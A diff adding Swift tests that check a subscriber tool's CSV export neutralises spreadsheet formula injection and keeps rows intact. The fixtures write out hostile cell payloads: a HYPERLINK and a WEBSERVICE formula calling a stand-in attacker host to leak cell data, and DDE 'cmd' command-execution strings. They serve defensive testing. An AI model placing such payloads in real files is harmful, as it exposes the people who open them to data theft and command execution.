@@ -263,3 +263,94 @@ let formConsent = Subscriber.Consent(at: Date(timeIntervalSince1970: 1_767_000_0
         #expect(try store.subscriber(email: "mallory@example.com") == nil)
     }
 }
+
+/// Issue #11, item 5: `subscribers list --format csv` wrote `=HYPERLINK(…)` as it was, and a
+/// name with CRLF broke its row.
+@Suite struct CSVExportTests {
+    @Test func cellsThatWouldRunAsFormulasStartWithAQuote() {
+        #expect(CSVWriter.field("=HYPERLINK(\"http://evil.example\",\"x\")") == "\"'=HYPERLINK(\"\"http://evil.example\"\",\"\"x\"\")\"")
+        #expect(CSVWriter.field("+cmd|' /C calc'!A0") == "'+cmd|' /C calc'!A0")
+        #expect(CSVWriter.field("@SUM(1+1)") == "'@SUM(1+1)")
+        #expect(CSVWriter.field("-2+3") == "'-2+3")
+        #expect(CSVWriter.field("\tx") == "'\tx")
+        #expect(CSVWriter.field("\r=1") == "\"'\r=1\"")
+        #expect(CSVWriter.field("Ada Lovelace") == "Ada Lovelace")
+    }
+
+    @Test func fieldsWithQuotesCommasAndLineBreaksAreQuotedAndLinesEndInCRLF() {
+        #expect(CSVWriter.line(["Hopper, Grace", "say \"hi\"", "two\r\nlines", "plain"]) == "\"Hopper, Grace\",\"say \"\"hi\"\"\",\"two\r\nlines\",plain\r\n")
+    }
+
+    @Test func theImporterTakesOffExactlyTheQuoteTheWriterAdded() {
+        for value in ["=1+1", "'=1+1", "''@x", "'hello", "'", "-ada@example.com", "plain"] {
+            #expect(CSVWriter.unguard(CSVWriter.field(value)) == value, "\(value)")
+        }
+    }
+
+    @Test func exportImportsIntoAFreshStoreAsItWas() throws {
+        let (source, folder) = try temporaryStore()
+        let hostile: [(email: String, name: String, source: String, confirm: Bool)] = [
+            ("ada@example.com", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "form\r\nsecond line", true),
+            ("-dash@example.com", "+cmd|' /C calc'!A0", "=cmd|' /C notepad'!A0", true),
+            ("grace@example.com", "Hopper, \"Amazing\" Grace", "@SUM(1+1)", false),
+            ("quote@example.com", "'=already quoted", "-import, row 3", true),
+            ("tab@example.com", "Zoë", "\tindented source", true),
+        ]
+        for person in hostile {
+            let consent = Subscriber.Consent(at: Date(timeIntervalSince1970: 1_767_000_000), method: .form, source: person.source,
+                                             text: "=consent \"text\"\r\nline two", ip: "+1", userAgent: "@agent")
+            let (s, _) = try source.requestSubscription(email: person.email, name: person.name, consent: consent, actor: "form")
+            if person.confirm { try source.confirm(publicID: s.publicID, now: Date(timeIntervalSince1970: 1_767_000_100)) }
+        }
+        var csv = ""
+        try source.exportCSV { csv += $0 }
+        let file = folder.appendingPathComponent("export.csv")
+        try Data(csv.utf8).write(to: file)
+
+        let (target, _) = try temporaryStore()
+        let report = try target.importCSV(at: file, displayPath: "export.csv")
+        #expect(report.refusedTotal == 0, "\(report.problems)")
+        #expect(report.confirmed == 4)
+        #expect(report.pending == 1)
+        for person in hostile {
+            let before = try #require(try source.subscriber(email: person.email))
+            let after = try #require(try target.subscriber(email: person.email))
+            #expect(after.name == before.name)
+            #expect(after.status == before.status)
+            #expect(after.consent.at == before.consent.at)
+            #expect(after.consent.confirmedAt == before.consent.confirmedAt)
+            #expect(after.consent.source.hasPrefix(before.consent.source + " (imported from export.csv, row "))
+            #expect(after.consent.text == before.consent.text)
+            #expect(after.consent.ip == before.consent.ip)
+            #expect(after.consent.userAgent == before.consent.userAgent)
+        }
+    }
+
+    @Test func noExportedCellStartsLikeAFormulaAndEveryRowStaysWhole() throws {
+        let (store, folder) = try temporaryStore()
+        let consent = Subscriber.Consent(at: Date(), method: .form, source: "=WEBSERVICE(\"http://evil.example\")\r\n@x")
+        try store.requestSubscription(email: "ada@example.com", name: "@SUM(1+1)", consent: consent, actor: "form")
+        var csv = ""
+        try store.exportCSV { csv += $0 }
+        let file = folder.appendingPathComponent("export.csv")
+        try Data(csv.utf8).write(to: file)
+        var reader = try CSVReader(url: file)
+        defer { reader.close() }
+        var records: [[String]] = []
+        while let record = try reader.next() { records.append(record) }
+        #expect(records.count == 2)
+        #expect(records.allSatisfy { $0.count == SubscriberCSV.columns.count })
+        for cell in records.joined() {
+            #expect(cell.first.map { !"=+-@\t\r".contains($0) } ?? true, "\(cell)")
+        }
+    }
+
+    @Test func anExportedRowOfSomeoneWhoLeftIsNotImportedAsSubscribed() throws {
+        let (store, _) = try temporaryStore()
+        let url = FileManager.default.temporaryDirectory.appendingPathComponent("import-\(UUID().uuidString).csv")
+        try Data("email,status,consented_at,consent_source,confirmed_at\r\nleft@example.com,unsubscribed,2025-03-01,form,2025-03-01\r\n".utf8).write(to: url)
+        let report = try store.importCSV(at: url, displayPath: "backup.csv")
+        #expect(report.refused == [.suppressed: 1])
+        #expect(try store.subscriber(email: "left@example.com") == nil)
+    }
+}
